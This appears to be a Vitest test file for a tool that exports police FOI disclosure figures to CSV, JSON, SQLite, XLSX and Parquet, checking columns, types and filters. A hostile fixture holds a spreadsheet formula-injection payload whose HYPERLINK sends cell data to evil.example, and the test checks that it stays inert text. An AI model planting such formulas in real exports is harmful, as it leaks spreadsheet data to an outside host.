import { DuckDBInstance } from '@duckdb/node-api';
import Database from 'better-sqlite3';
import ExcelJS from 'exceljs';
import { parse as parseCsv } from 'csv-parse/sync';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { applyCorrections } from '../../src/corrections/apply.js';
import { disclosureFilter } from '../../src/cli/export-run.js';
import { datasetFieldsOf } from '../../src/export/fields.js';
import { DATASET_TABLE_NAMES, rowsOf } from '../../src/export/tables.js';
import { flatPredicate, writeExport } from '../../src/export/write.js';
import { XLSX_SHEETS, cellText, CELL_LIMIT } from '../../src/export/xlsx.js';
import type { DatasetTable } from '../../src/records/schema.js';
import { hostileDisclosure, sampleDisclosure } from './store-sample.js';

let dir: string;
const DATA = [hostileDisclosure(), sampleDisclosure()];
beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'formats-'));
  await writeExport(DATA, {
    out: join(dir, 'out'),
    formats: ['csv', 'json', 'sqlite', 'xlsx', 'parquet'],
    info: { created: '2026-11-30T01:00:00.000Z', run: 7 },
  });
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const out = (f: string) => join(dir, 'out', f);
const csvRows = (t: DatasetTable) => parseCsv(readFileSync(out(`${t}.csv`)), { columns: true }) as Array<Record<string, string>>;

describe('figures_flat', () => {
  it('repeats each figure with its disclosure and question, readable alone', () => {
    const flat = rowsOf(applyCorrections(sampleDisclosure(), []).record).figures_flat;
    expect(flat).toHaveLength(2);
    expect(flat[0]).toEqual({
      force: 'west-midlands',
      force_name: 'West Midlands Police',
      disclosure_id: 'west-midlands/65a-24',
      ordinal: 1,
      title: 'Officer Convictions',
      reference: '65A/24',
      url: 'https://foi.west-midlands.police.uk/officer-convictions-65a-24/',
      kind: 'foi_response',
      outcome: 'partial',
      request_date: '2024-01-03',
      response_date: null,
      published_date: '2024-02-01',
      question: '1',
      question_text: 'How many officers were convicted',
      period_start: '2019-01-01',
      period_end: '2023-12-31',
      year: 2021,
      measure: 'officers',
      event: 'convicted',
      offence: 'Drink driving',
      offence_category: 'driving',
      gender: 'male',
      rank: 'PC',
      status: 'suspended',
      label: 'Total, 2021',
      value: 21,
      is_total: false,
      text: 'TWENTY one police officers',
      locator: 'pdf:p1:t1:r2:c3',
      sha256: 'b'.repeat(64),
      corrected: false,
      correction_reason: null,
    });
    expect(flat[1]).toMatchObject({ ordinal: 2, value: -3, question: null, question_text: null, is_total: true });
  });

  it('is a view in the SQLite export with the same columns and rows as figures_flat.json', () => {
    const db = new Database(out('foi-harvest.sqlite'), { readonly: true });
    try {
      const rows = db.prepare('SELECT * FROM figures_flat').all() as Array<Record<string, unknown>>;
      const json = JSON.parse(readFileSync(out('figures_flat.json'), 'utf8')) as Array<Record<string, unknown>>;
      expect(Object.keys(rows[0])).toEqual(datasetFieldsOf('figures_flat').map((f) => f.name));
      const asJson = rows.map((r) => ({ ...r, is_total: r.is_total === 1, corrected: r.corrected === 1 }));
      expect(asJson).toEqual(json);
      expect(json).toHaveLength(4);
    } finally {
      db.close();
    }
  });

  it('--event and --measure keep only matching figures; --topic, --kind and --since pick disclosures', () => {
    const rows = rowsOf(applyCorrections(sampleDisclosure(), []).record, flatPredicate({ event: ['convicted'] })).figures_flat;
    expect(rows.map((r) => r.ordinal)).toEqual([1]);
    expect(rowsOf(applyCorrections(sampleDisclosure(), []).record, flatPredicate({ measure: ['cases', 'staff'] })).figures_flat.map((r) => r.ordinal)).toEqual([2]);
    expect(flatPredicate({})).toBeUndefined();
    const d = sampleDisclosure(); // topics convictions, suspensions; published 2024-02-01
    expect(disclosureFilter({ topic: ['vetting'] })(d)).toBe(false);
    expect(disclosureFilter({ topic: ['vetting', 'suspensions'] })(d)).toBe(true);
    expect(disclosureFilter({ kind: ['news_article'] })(d)).toBe(false);
    expect(disclosureFilter({ since: '2024-02-01' })(d)).toBe(true);
    expect(disclosureFilter({ since: '2024-02-02' })(d)).toBe(false);
    // No dates at all: not "since" anything.
    expect(disclosureFilter({ since: '2024-01-02' })({ ...d, published_date: null })).toBe(true); // falls back to the request date
    expect(disclosureFilter({ since: '2000-01-01' })({ ...d, published_date: null, response_date: null, request_date: null })).toBe(false);
  });
});

describe('xlsx', () => {
  let wb: ExcelJS.Workbook;
  beforeAll(async () => {
    wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out('foi-harvest.xlsx'));
  });

  it('has figures_flat first, a sheet per table, then README', () => {
    expect(wb.worksheets.map((w) => w.name)).toEqual(XLSX_SHEETS);
    expect(XLSX_SHEETS).toEqual([...DATASET_TABLE_NAMES, 'README']);
  });

  it('writes every row with a frozen header and filters on', () => {
    for (const t of DATASET_TABLE_NAMES) {
      const ws = wb.getWorksheet(t)!;
      const fields = datasetFieldsOf(t);
      expect((ws.getRow(1).values as unknown[]).slice(1), t).toEqual(fields.map((f) => f.name));
      expect(ws.rowCount - 1, t).toBe(csvRows(t).length);
      expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(ws.autoFilter, t).toBeTruthy();
    }
  });

  it('types numbers, dates and booleans, and keeps formula-like text as text', () => {
    const ws = wb.getWorksheet('figures_flat')!;
    const col = (name: string) => datasetFieldsOf('figures_flat').findIndex((f) => f.name === name) + 1;
    const row = ws.getRow(3); // disclosure id order: unknown/… #1, #2, then west-midlands/… #1, #2
    expect(row.getCell(col('value')).value).toBe(-3);
    expect(row.getCell(col('value')).type).toBe(ExcelJS.ValueType.Number);
    expect(row.getCell(col('is_total')).value).toBe(true);
    expect(row.getCell(col('title')).value).toBe('=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect(row.getCell(col('title')).type).toBe(ExcelJS.ValueType.String);
    const wm = ws.getRow(4);
    expect(wm.getCell(col('period_start')).value).toEqual(new Date(Date.UTC(2019, 0, 1)));
    expect(wm.getCell(col('period_start')).type).toBe(ExcelJS.ValueType.Date);
    expect(wm.getCell(col('response_date')).value).toBeNull();
    const d = wb.getWorksheet('disclosures')!;
    const topics = datasetFieldsOf('disclosures').findIndex((f) => f.name === 'topics') + 1;
    expect(d.getRow(3).getCell(topics).value).toBe('convictions; suspensions');
  });

  it('describes every column in README', () => {
    const ws = wb.getWorksheet('README')!;
    const described = new Map<string, string>();
    ws.eachRow((r) => {
      const v = r.values as unknown[];
      if (typeof v[2] === 'string' && v[2]) described.set(`${v[1]}.${v[2]}`, String(v[5]));
    });
    for (const t of DATASET_TABLE_NAMES) for (const f of datasetFieldsOf(t)) expect(described.get(`${t}.${f.name}`), `${t}.${f.name}`).toMatch(/\w{3}/);
  });

  it('cuts text at Excel’s cell limit, saying so, and drops characters XML cannot hold', () => {
    expect(cellText('a\u0001b')).toBe('ab');
    const long = cellText('x'.repeat(40000));
    expect(long.length).toBe(CELL_LIMIT);
    expect(long.endsWith('the full text is in the CSV / JSON]')).toBe(true);
  });
});

describe('parquet', () => {
  const TYPE = { string: 'VARCHAR', date: 'DATE', integer: 'BIGINT', number: 'DOUBLE', boolean: 'BOOLEAN', array: 'VARCHAR[]' } as const;
  let conn: Awaited<ReturnType<DuckDBInstance['connect']>>;
  beforeAll(async () => {
    conn = await (await DuckDBInstance.create(':memory:')).connect();
  });
  const all = async (sql: string) => (await conn.runAndReadAll(sql)).getRowObjects();

  it('DuckDB reads every table with its row count and column types', async () => {
    for (const t of DATASET_TABLE_NAMES) {
      const file = out(`${t}.parquet`);
      const cols = await all(`DESCRIBE SELECT * FROM read_parquet('${file}')`);
      expect(cols.map((c) => `${c.column_name}:${c.column_type}`), t).toEqual(datasetFieldsOf(t).map((f) => `${f.name}:${TYPE[f.type]}`));
      expect(await all(`SELECT count(*)::INTEGER AS n FROM read_parquet('${file}')`), t).toEqual([{ n: csvRows(t).length }]);
    }
  });

  it('keeps values: numbers, nulls, dates, lists, booleans', async () => {
    const figures = await all(`SELECT ordinal, value, year, strftime(period_start, '%Y-%m-%d') AS start, is_total, corrected FROM '${out('figures_flat.parquet')}' WHERE disclosure_id = 'west-midlands/65a-24' ORDER BY ordinal`);
    expect(figures).toEqual([
      { ordinal: 1n, value: 21, year: 2021n, start: '2019-01-01', is_total: false, corrected: false },
      { ordinal: 2n, value: -3, year: null, start: null, is_total: true, corrected: false },
    ]);
    const topics = await all(`SELECT id, topics FROM '${out('disclosures.parquet')}' ORDER BY id`);
    expect(JSON.parse(JSON.stringify(topics.map((r) => [r.id, (r.topics as { items: unknown[] } | null)?.items ?? r.topics])))).toEqual([
      ['unknown/u-0123456789ab', []],
      ['west-midlands/65a-24', ['convictions', 'suspensions']],
    ]);
  });
});

describe('datapackage.json', () => {
  it('carries a version, created, sources and the reuse note', () => {
    const pkg = JSON.parse(readFileSync(out('datapackage.json'), 'utf8'));
    expect(pkg.version).toBe('0.1.0+run.7');
    expect(pkg.created).toBe('2026-11-30T01:00:00.000Z');
    // One entry per force log the rows were read from (the hostile row has no force), each saying whose copyright it is.
    expect(pkg.sources).toEqual([
      {
        title: 'West Midlands Police disclosure log',
        path: expect.stringMatching(/^https:\/\//),
        description: "The force's own disclosure log (source = west-midlands). Copyright in released material stays with the public authority that released it; this dataset quotes it for reference.",
      },
    ]);
    expect(pkg.reuse).toMatch(/check a figure against its source/);
    expect(pkg.reuse).toMatch(/Copyright in released material stays with the public authority/);
    expect(pkg.resources[0].name).toBe('figures_flat');
    expect(pkg.resources.every((r: { encoding: string }) => r.encoding === 'utf-8')).toBe(true);
  });

  it('declares --excel files utf-8 (an IANA name) and says in each description that they start with a byte-order mark', async () => {
    await writeExport(DATA, { out: join(dir, 'excel'), formats: ['csv'], excel: true });
    const pkg = JSON.parse(readFileSync(join(dir, 'excel', 'datapackage.json'), 'utf8'));
    expect(pkg.resources.map((r: { encoding: string }) => r.encoding)).toEqual(DATASET_TABLE_NAMES.map(() => 'utf-8'));
    expect(pkg.resources.filter((r: { description: string }) => !r.description.endsWith('Written for Excel: the file starts with a UTF-8 byte-order mark (bytes EF BB BF), which UTF-8 readers drop.'))).toEqual([]);
    expect([...readFileSync(join(dir, 'excel', 'figures_flat.csv')).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });
});
